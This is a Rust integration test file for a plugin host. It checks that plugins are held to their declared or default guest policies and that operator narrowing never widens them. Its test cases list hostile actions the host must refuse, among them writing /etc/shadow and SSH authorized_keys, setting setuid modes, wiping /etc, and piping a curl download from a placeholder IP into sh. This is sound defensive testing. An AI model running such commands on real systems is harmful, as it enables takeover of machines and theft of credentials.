//! Guest-side policies through the real host: contract 0.2.0 plugins are
//! held to what they declare, contract 0.1.0 plugins to the documented
//! default, both served by one host at once, and the operator's narrowing
//! applies on top.

use std::collections::BTreeMap;
use std::path::Path;

use fixup_host::classify::Scenario;
use fixup_host::facts::Flavor;
use fixup_host::kit::Inspector;
use fixup_host::plan::policy::{Breach, GuestPolicy, PolicySource, RawPolicy, Rule};
use fixup_host::plugin::{EngineOptions, PluginError, PluginHost};
use fixup_tests::facts;
use rstest::rstest;

const NIC: [(&str, Option<&str>); 1] = [("52:54:00:aa:bb:01", Some("10.0.0.5/24"))];

fn host(options: EngineOptions) -> PluginHost {
    let mut host = PluginHost::new(options).expect("engine");
    host.load_builtins().expect("built-ins load");
    host.load_file(Path::new(env!("PLUGIN_LEGACY")))
        .expect("a contract 0.1.0 plugin loads");
    host.load_file(Path::new(env!("PLUGIN_OVERREACH")))
        .expect("a plugin that overreaches only when called loads");
    host
}

/// Plan `scenario` for a VM named `name` of `flavor` with whichever plugin
/// the registry picks.
fn plan(host: &PluginHost, flavor: Option<&str>, name: &str) -> Result<usize, PluginError> {
    let selection = host
        .registry()
        .select(
            Scenario::OciNetworkd,
            flavor.map(|f| Flavor::parse(f).expect("flavour")).as_ref(),
        )
        .expect("a plugin serves it");
    host.plan(
        &selection.plugin,
        Scenario::OciNetworkd,
        &facts(name, flavor, &NIC),
    )
    .map(|(plan, _)| plan.steps.len())
}

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| (*s).to_owned()).collect()
}

#[test]
fn two_contract_versions_are_served_at_once() {
    let host = host(EngineOptions::default());
    let contracts: BTreeMap<&str, (&str, PolicySource)> = host
        .registry()
        .plugins()
        .iter()
        .map(|p| (p.info.name.as_str(), (p.contract(), p.policy_source)))
        .collect();
    assert_eq!(
        contracts["legacy"],
        ("0.1.0", PolicySource::ContractDefault)
    );
    assert_eq!(contracts["oci-networkd"], ("0.2.0", PolicySource::Declared));
    // Each plans, inside its policy, from the same host.
    assert_eq!(
        plan(&host, Some("legacy"), "web-0").expect("legacy plans"),
        2
    );
    assert!(plan(&host, None, "web-0").expect("built-in plans") >= 4);
    assert!(plan(&host, Some("overreach"), "web-0").expect("inside its policy") >= 4);
}

#[rstest]
#[case::password_file("shadow", Rule::Write("/etc/shadow".into()))]
#[case::shell("shell", Rule::Run(strings(&["sh", "-c", "true"])))]
fn a_contract_0_1_plugin_is_held_to_the_default_policy(#[case] name: &str, #[case] rule: Rule) {
    let host = host(EngineOptions::default());
    let err = plan(&host, Some("legacy"), name).expect_err("outside the default policy");
    match &err {
        PluginError::Policy { plugin, by, breach } => {
            assert_eq!(plugin, "legacy");
            assert_eq!(by, "the default policy of its contract version");
            assert_eq!(*breach, Breach { step: 1, rule });
        }
        other => panic!("unexpected: {other:?}"),
    }
    assert!(
        err.to_string().contains("plugin legacy planned what"),
        "{err}"
    );
}

#[rstest]
#[case::password_file("shadow", Rule::Write("/etc/shadow".into()))]
#[case::ssh_keys("keys", Rule::Write("/root/.ssh/authorized_keys".into()))]
#[case::setuid("setuid", Rule::Mode { path: "/etc/systemd/network/10-x.network".into(), mode: 0o4777 })]
#[case::wipe("wipe", Rule::Remove("/etc/*".into()))]
#[case::curl_pipe_sh("curl", Rule::Run(strings(&["sh", "-c", "curl -s http://192.0.2.1/x | sh"])))]
#[case::undeclared_restart("sshd", Rule::Run(strings(&["systemctl", "restart", "sshd"])))]
fn a_plan_past_the_declared_policy_is_refused(#[case] name: &str, #[case] rule: Rule) {
    let host = host(EngineOptions::default());
    match plan(&host, Some("overreach"), name) {
        Err(PluginError::Policy { plugin, by, breach }) => {
            assert_eq!(plugin, "overreach");
            assert_eq!(by, "its declared policy");
            assert_eq!(breach, Breach { step: 1, rule });
        }
        other => panic!("unexpected: {other:?}"),
    }
}

fn narrowing(raw: RawPolicy) -> EngineOptions {
    let policy = GuestPolicy::parse(&raw).expect("well formed");
    EngineOptions {
        narrowing: BTreeMap::from([("oci-networkd".to_owned(), policy)]),
        ..EngineOptions::default()
    }
}

#[test]
fn the_operator_narrows_a_built_in() {
    // Everything the built-in does but the hostname.
    let host = host(narrowing(RawPolicy {
        writes: strings(&[
            "/proc/sys/vm/drop_caches",
            "/etc/systemd/network/10-*.network",
        ]),
        removes: strings(&["/etc/systemd/network/10-*.network"]),
        runs: vec![strings(&["systemctl", "restart", "systemd-networkd"])],
        special_modes: false,
    }));
    match plan(&host, None, "web-0") {
        Err(PluginError::Policy { plugin, by, breach }) => {
            assert_eq!(plugin, "oci-networkd");
            assert!(by.contains("plugin_policy.oci-networkd"), "{by}");
            assert_eq!(breach.rule, Rule::Write("/etc/hostname".into()));
        }
        other => panic!("unexpected: {other:?}"),
    }
    // Other plugins are not narrowed.
    plan(&host, Some("legacy"), "web-0").expect("legacy is not narrowed");
}

#[test]
fn a_narrowing_never_widens() {
    let mut options = narrowing(RawPolicy::default());
    options.narrowing = BTreeMap::from([(
        "overreach".to_owned(),
        GuestPolicy::parse(&RawPolicy {
            writes: strings(&["/**"]),
            removes: strings(&["/**"]),
            runs: vec![strings(&["*"])],
            special_modes: true,
        })
        .expect("well formed"),
    )]);
    let host = host(options);
    for name in ["shadow", "setuid", "curl"] {
        match plan(&host, Some("overreach"), name) {
            Err(PluginError::Policy { by, .. }) => assert_eq!(by, "its declared policy"),
            other => panic!("{name}: unexpected: {other:?}"),
        }
    }
}

#[test]
fn a_narrowing_for_no_loaded_plugin_is_reported() {
    let host = host(narrowing(RawPolicy::default()));
    assert!(host.unused_narrowings().is_empty());
    let mut options = EngineOptions::default();
    options
        .narrowing
        .insert("oci_networkd".to_owned(), GuestPolicy::default());
    assert_eq!(self::host(options).unused_narrowings(), ["oci_networkd"]);
}

#[test]
fn a_narrowing_that_covers_the_plan_changes_nothing() {
    let host = host(narrowing(RawPolicy {
        writes: strings(&["/proc/sys/vm/*", "/etc/hostname", "/etc/systemd/network/**"]),
        removes: strings(&["/etc/systemd/network/**"]),
        runs: vec![strings(&["systemctl", "*"])],
        special_modes: false,
    }));
    assert!(plan(&host, None, "web-0").expect("inside both") >= 4);
}

fn inspect(file: &str) -> fixup_host::kit::Inspection {
    Inspector::new(EngineOptions::default(), None)
        .expect("inspector")
        .inspect(Path::new(file))
}

#[test]
fn inspect_shows_the_default_policy_of_a_contract_0_1_plugin() {
    let found = inspect(env!("PLUGIN_LEGACY"));
    assert!(found.accepted, "{found}");
    assert_eq!(found.contract.as_deref(), Some("cocoon:fixup@0.1.0"));
    let policy = found.policy.as_ref().expect("policy");
    assert_eq!(policy.source, PolicySource::ContractDefault);
    assert_eq!(policy.policy, GuestPolicy::contract_0_1_default());
    let text = found.to_string();
    assert!(text.contains("the default for its contract"), "{text}");
    assert!(
        text.contains("rebuild against cocoon:fixup@0.2.0"),
        "{text}"
    );
    assert!(
        text.contains("  writes   /etc/systemd/network/10-*.network\n"),
        "{text}"
    );
    assert!(text.contains("  modes    within 0755\n"), "{text}");
    assert!(text.contains("cocoon:fixup/types@0.1.0"), "{text}");
}

#[test]
fn inspect_shows_a_declared_policy_and_warns_about_unbounded_runs() {
    let found = inspect(env!("PLUGIN_OVERREACH"));
    let text = found.to_string();
    assert!(
        text.contains("policy     declared by the plugin\n"),
        "{text}"
    );
    assert!(
        text.contains("  runs     systemctl restart systemd-networkd\n"),
        "{text}"
    );
    assert!(!text.contains("warning"), "{text}");

    let hostile = inspect(env!("PLUGIN_HOSTILE"));
    let policy = hostile.policy.as_ref().expect("policy");
    assert_eq!(policy.warnings.len(), 3, "{:?}", policy.warnings);
    assert!(policy.warnings[0].starts_with("`*` leaves the arguments open"));
    assert!(policy.policy.special_modes);
    let text = hostile.to_string();
    assert!(
        text.contains("  warning: write pattern /** covers /etc/shadow"),
        "{text}"
    );
    assert!(text.contains("  modes    any (special-modes)\n"), "{text}");

    let json = serde_json::to_value(&found).expect("json");
    assert_eq!(json["policy"]["source"], "declared");
    assert_eq!(
        json["policy"]["runs"][0],
        serde_json::json!(["systemctl", "restart", "systemd-networkd"])
    );
}
